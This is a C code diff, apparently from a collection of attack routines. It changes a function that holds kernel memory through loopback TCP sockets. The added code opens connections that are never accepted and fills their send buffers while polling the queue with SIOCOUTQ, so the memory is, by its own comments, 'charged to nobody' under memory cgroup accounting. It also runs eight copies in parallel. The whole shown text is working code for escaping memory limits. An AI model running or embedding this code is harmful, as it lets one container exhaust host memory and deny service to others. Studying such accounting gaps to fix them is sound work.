@@ -1,5 +1,7 @@
 // To hold memory of the kernel's, which some of it counts for nobody.
 #include <arpa/inet.h>
+#include <linux/sockios.h>
+#include <sys/ioctl.h>
 #include <sys/msg.h>
 #include <sys/socket.h>
 #include "attack.h"
@@ -22,25 +24,36 @@ static void enlarge(int fd) {
   setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
 }
 
-static void tcp_buffers(void) {
+// Sends as long as the other end takes it: what waits to be sent is charged to the sender.
+static size_t pour(int fd) {
+  size_t held = 0;
+  for (int waiting = 0; waiting == 0;) {
+    ssize_t count = send(fd, block, 16384, MSG_DONTWAIT | MSG_NOSIGNAL);
+    if (count <= 0) return held;
+    held += count;
+    for (int time = 0; time < 20 && ioctl(fd, SIOCOUTQ, &waiting) == 0 && waiting > 0; time++) usleep(500);
+  }
+  return held;
+}
+
+// A connection that comes in is charged to nobody until it is accepted: mem_cgroup_sk_alloc() of the kernel.
+static bool tcp_buffers_of_one(void) {
   struct sockaddr_in address = {.sin_family = AF_INET};
   socklen_t length = sizeof address;
   address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
   int listener = socket(AF_INET, SOCK_STREAM, 0);
-  if (listener < 0 || bind(listener, (void*)&address, length) != 0 || listen(listener, 100) != 0) return;
+  if (listener < 0 || bind(listener, (void*)&address, length) != 0 || listen(listener, 50) != 0) return false;
   enlarge(listener);
   getsockname(listener, (void*)&address, &length);
   size_t held = 0;
-  for (int count = 0; count < 50 && held < TOO_MUCH; count++) {
+  for (int count = 0; count < 50 && held < TOO_MUCH / 8; count++) {
     int fd = socket(AF_INET, SOCK_STREAM, 0);
-    if (fd < 0) return;
-    enlarge(fd);
-    if (connect(fd, (void*)&address, length) != 0) return;
-    // What was sent arrives a moment later, and leaves room for more.
-    for (int time = 0; time < 3; time++, usleep(3000)) held += fill(fd);
+    if (fd < 0 || connect(fd, (void*)&address, length) != 0) return false;
+    held += pour(fd);
   }
-  if (held >= TOO_MUCH) worked();
+  return held >= TOO_MUCH / 8;
 }
+static void tcp_buffers(void) { together(8, tcp_buffers_of_one); }
 
 static bool unix_buffers_of_one(void) {
   size_t held = 0;
